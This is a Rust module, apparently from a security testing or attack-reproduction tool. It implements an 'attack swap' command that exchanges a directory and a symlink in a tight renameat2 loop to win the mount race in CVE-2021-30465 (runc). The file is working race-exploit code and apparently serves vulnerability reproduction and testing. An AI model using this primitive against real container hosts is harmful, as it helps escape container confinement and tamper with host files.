//! Exchanges a directory and a link to somewhere else as fast as it can, while somebody mounts or makes something there:
//! CVE-2021-30465.

use std::path::Path;

use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};

use crate::{Report, Why, text};

/// `attack swap STOP PLACE LINK [PLACE LINK]...`: until the file STOP is there.
pub(crate) fn attack(report: &Report, arguments: &[String]) {
    let stop = Path::new(text(arguments, 0));
    let mut outcome = Err("never".to_owned());
    let mut count = 0_u64;
    while !stop.exists() {
        for pair in arguments[1..].chunks_exact(2) {
            outcome = renameat2(
                AT_FDCWD,
                pair[0].as_str(),
                AT_FDCWD,
                pair[1].as_str(),
                RenameFlags::RENAME_EXCHANGE,
            )
            .why();
            count += 1;
        }
    }
    report.line("exchange", outcome.map(|()| format!("{count} times")));
}
